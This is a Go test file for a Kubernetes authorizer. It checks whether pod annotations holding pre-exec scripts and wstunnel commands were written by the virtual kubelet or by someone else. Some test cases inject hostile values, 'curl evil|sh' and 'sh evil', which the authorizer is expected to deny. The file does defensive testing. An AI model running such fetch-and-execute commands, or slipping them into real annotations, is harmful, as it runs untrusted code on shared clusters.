package authorizer

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"maps"
	"strings"
	"testing"

	"github.com/open-policy-agent/opa/v1/ast"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"

	"github.com/sar-bridge/sar-bridge/internal/astjson"
)

// fakeLivePods serves fixed pods by namespace/name and counts its reads.
type fakeLivePods struct {
	pods  map[string]*corev1.Pod
	err   error
	calls int
}

func (f *fakeLivePods) Pod(_ context.Context, namespace, name string) (*corev1.Pod, error) {
	f.calls++
	if f.err != nil {
		return nil, f.err
	}
	return f.pods[namespace+"/"+name], nil
}

// The shape of interLink's rendered mesh script (pkg/virtualkubelet/templates/mesh.sh):
// a heredoc to $TMPDIR/mesh.sh, ending in its marker with no newline after it.
const meshScript = "cat <<'EOFMESH' > $TMPDIR/mesh.sh\n#!/bin/bash\nset -e\nset -m\n\necho mesh\n\nEOFMESH"

const (
	preExec  = "slurm-job.vk.io/pre-exec"
	wstunnel = "interlink.eu/wstunnel-client-commands"
	podUID   = "uid-p1"
)

// ownership is who owns which annotations in a live pod's managedFields.
type ownership map[string][]string

// livePod is pod team-a/p1 as the API server stores it, with annotations and the
// managedFields of owners (each also owning a label, as managers usually own more).
func livePod(uid types.UID, annotations map[string]string, owners ownership) *corev1.Pod {
	p := &corev1.Pod{ObjectMeta: metav1.ObjectMeta{Name: "p1", Namespace: "team-a", UID: uid, Annotations: annotations}}
	for manager, keys := range owners {
		fields := map[string]any{".": map[string]any{}}
		for _, k := range keys {
			fields["f:"+k] = map[string]any{}
		}
		raw, _ := json.Marshal(map[string]any{"f:metadata": map[string]any{"f:annotations": fields, "f:labels": map[string]any{"f:app": map[string]any{}}}})
		p.ManagedFields = append(p.ManagedFields, metav1.ManagedFieldsEntry{Manager: manager, Operation: metav1.ManagedFieldsOperationUpdate,
			APIVersion: "v1", FieldsType: "FieldsV1", FieldsV1: &metav1.FieldsV1{Raw: raw}})
	}
	return p
}

// writersInput is a decision input for pod team-a/p1 with annotations.
func writersInput(t *testing.T, op, name string, uid types.UID, annotations map[string]string) json.RawMessage {
	t.Helper()
	metadata := map[string]any{"name": name, "namespace": "team-a", "uid": uid, "annotations": annotations}
	raw, err := json.Marshal(map[string]any{"operation": op, "pod": map[string]any{
		"metadata": metadata, "spec": map[string]any{"serviceAccountName": "runner", "containers": []any{map[string]any{"name": "main"}}}}})
	if err != nil {
		t.Fatal(err)
	}
	return raw
}

// restricted is the default policy's refusal of key for team-a's runner, with no data.
func restricted(key string) string {
	return fmt.Sprintf(`annotation %q is restricted: subject %q is not among its allowed users [] or groups []`, key, saRunner)
}

func TestDecideWriters(t *testing.T) {
	vk := ownership{"vk": {preExec, wstunnel}}
	mesh := map[string]string{preExec: meshScript}
	tests := []struct {
		name        string
		op, podName string // defaults: create, p1
		uid         types.UID
		sent        map[string]string
		live        *corev1.Pod
		liveErr     error
		managers    []string // default: vk, virtual-kubelet
		admission   bool
		wantCalls   int
		wantWriters map[string]string // nil: input.hpc has no writers
		wantDenied  string            // "" allowed, else a part of the reason
		wantError   bool              // an UnavailableError
	}{
		{name: "no such annotation: the live pod is not read", sent: map[string]string{"app.example/x": "y"}},
		{name: "the VK's mesh script, written by the VK", sent: mesh, live: livePod(podUID, mesh, vk),
			wantCalls: 1, wantWriters: map[string]string{preExec: "vk"}},
		{name: "written under virtual-kubelet (release binaries)", sent: mesh, live: livePod(podUID, mesh, ownership{"virtual-kubelet": {preExec}}),
			wantCalls: 1, wantWriters: map[string]string{preExec: "vk"}},
		{name: "the value sent is not the live one", sent: map[string]string{preExec: strings.Replace(meshScript, "echo mesh", "curl evil|sh", 1)}, live: livePod(podUID, mesh, vk),
			wantCalls: 1, wantWriters: map[string]string{preExec: "other"}, wantDenied: restricted(preExec)},
		{name: "another field manager changed it last", sent: mesh,
			live:      livePod(podUID, mesh, ownership{"vk": {"interlink.eu/pod-subnet"}, "kubectl-patch": {preExec}}),
			wantCalls: 1, wantWriters: map[string]string{preExec: "other"}, wantDenied: restricted(preExec)},
		{name: "written under the VK's name through pods/status", sent: mesh, live: func() *corev1.Pod {
			p := livePod(podUID, mesh, vk)
			p.ManagedFields[0].Subresource = "status"
			return p
		}(), wantCalls: 1, wantWriters: map[string]string{preExec: "other"}, wantDenied: restricted(preExec)},
		{name: "the VK's script with the tenant's text glued after it", sent: map[string]string{preExec: meshScript + "echo mine"},
			live: livePod(podUID, map[string]string{preExec: meshScript + "echo mine"}, vk), wantCalls: 1,
			wantWriters: map[string]string{preExec: "vk"}, wantDenied: restricted(preExec)},
		{name: "no such pod in the API server", sent: mesh, wantCalls: 1, wantWriters: map[string]string{preExec: "other"}, wantDenied: restricted(preExec)},
		{name: "another pod of that name (uid differs)", uid: "uid-before", sent: mesh, live: livePod(podUID, mesh, vk),
			wantCalls: 1, wantWriters: map[string]string{preExec: "other"}, wantDenied: restricted(preExec)},
		{name: "no uid sent: the pod of that name", uid: "-", sent: mesh, live: livePod(podUID, mesh, vk),
			wantCalls: 1, wantWriters: map[string]string{preExec: "vk"}},
		{name: "key owned but absent from the live pod", sent: map[string]string{wstunnel: ""}, live: livePod(podUID, nil, vk),
			wantCalls: 1, wantWriters: map[string]string{wstunnel: "other"}, wantDenied: restricted(wstunnel)},
		{name: "wstunnel commands written by the VK", sent: map[string]string{wstunnel: "wstunnel client -R tcp://0.0.0.0:8080:localhost:8080 ws://ep"},
			live:      livePod(podUID, map[string]string{wstunnel: "wstunnel client -R tcp://0.0.0.0:8080:localhost:8080 ws://ep"}, vk),
			wantCalls: 1, wantWriters: map[string]string{wstunnel: "vk"}},
		{name: "each key judged on its own", sent: map[string]string{preExec: meshScript, wstunnel: "sh evil"},
			live:      livePod(podUID, map[string]string{preExec: meshScript, wstunnel: "sh evil"}, ownership{"vk": {preExec}, "kubectl-edit": {wstunnel}}),
			wantCalls: 1, wantWriters: map[string]string{preExec: "vk", wstunnel: "other"}, wantDenied: restricted(wstunnel)},
		{name: "no VK field managers configured", managers: []string{}, sent: mesh, live: livePod(podUID, mesh, vk),
			wantCalls: 1, wantWriters: map[string]string{preExec: "other"}, wantDenied: restricted(preExec)},
		{name: "the API fails: no decision", sent: mesh, liveErr: errors.New("reading pod team-a/p1: connection refused"), wantCalls: 1, wantError: true},
		{name: "under admission: not read", admission: true, sent: mesh, live: livePod(podUID, mesh, vk), wantDenied: restricted(preExec)},
		{name: "unnamed pod: not read", podName: "-", sent: mesh, live: livePod(podUID, mesh, vk), wantDenied: restricted(preExec)},
		{name: "delete: not read", op: "delete", sent: mesh, live: livePod(podUID, mesh, vk)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			live := &fakeLivePods{pods: map[string]*corev1.Pod{}, err: tt.liveErr}
			if tt.live != nil {
				live.pods["team-a/p1"] = tt.live
			}
			cfg := Config{LivePods: live, VKFieldManagers: tt.managers}
			if tt.managers == nil {
				cfg.VKFieldManagers = []string{"vk", "virtual-kubelet"}
			}
			a := newTestAuthorizer(t, cfg, &fakeReviewer{answer: allowAll}, newView())
			rec := &recordingEvaluator{Evaluator: a.evaluator}
			a.evaluator = rec
			d, err := a.Decide(context.Background(), Request{Path: decisionPath, Input: writersInput(t, or(tt.op, "create"), or(tt.podName, "p1"), types.UID(or(string(tt.uid), podUID)), tt.sent), NotStored: tt.admission})
			if live.calls != tt.wantCalls {
				t.Errorf("live pod read %d times, want %d", live.calls, tt.wantCalls)
			}
			var unavailable *UnavailableError
			if tt.wantError {
				if !errors.As(err, &unavailable) || !strings.Contains(err.Error(), "who wrote slurm-job.vk.io/pre-exec (input.hpc.writers): reading pod team-a/p1: connection refused") {
					t.Fatalf("err = %T %v, want an UnavailableError naming the pod", err, err)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := inputWriters(t, rec.last); !maps.Equal(got, tt.wantWriters) || (got == nil) != (tt.wantWriters == nil) {
				t.Errorf("input.hpc.writers = %v, want %v", got, tt.wantWriters)
			}
			outcome, reason := summarize(d.Result, d.Defined)
			if tt.wantDenied == "" && outcome != "allowed" || tt.wantDenied != "" && (outcome != "denied" || !strings.Contains(reason, tt.wantDenied)) {
				t.Errorf("%s: %q; want denied %q (empty: allowed)", outcome, reason, tt.wantDenied)
			}
		})
	}
}

// or is s, or def when s is empty; "-" stands for the empty string.
func or(s, def string) string {
	switch s {
	case "":
		return def
	case "-":
		return ""
	}
	return s
}

// inputWriters is input.hpc.writers of an evaluated input; nil when absent.
func inputWriters(t *testing.T, input ast.Value) map[string]string {
	t.Helper()
	w, ok := astjson.Find(input, []*ast.Term{ast.StringTerm("hpc"), ast.StringTerm("writers")}).(ast.Object)
	if !ok {
		return nil
	}
	out := map[string]string{}
	w.Foreach(func(k, v *ast.Term) {
		ks, _ := k.Value.(ast.String)
		vs, ok := v.Value.(ast.String)
		if !ok {
			t.Errorf("writers[%v] = %v, not a string", k, v)
		}
		out[string(ks)] = string(vs)
	})
	return out
}
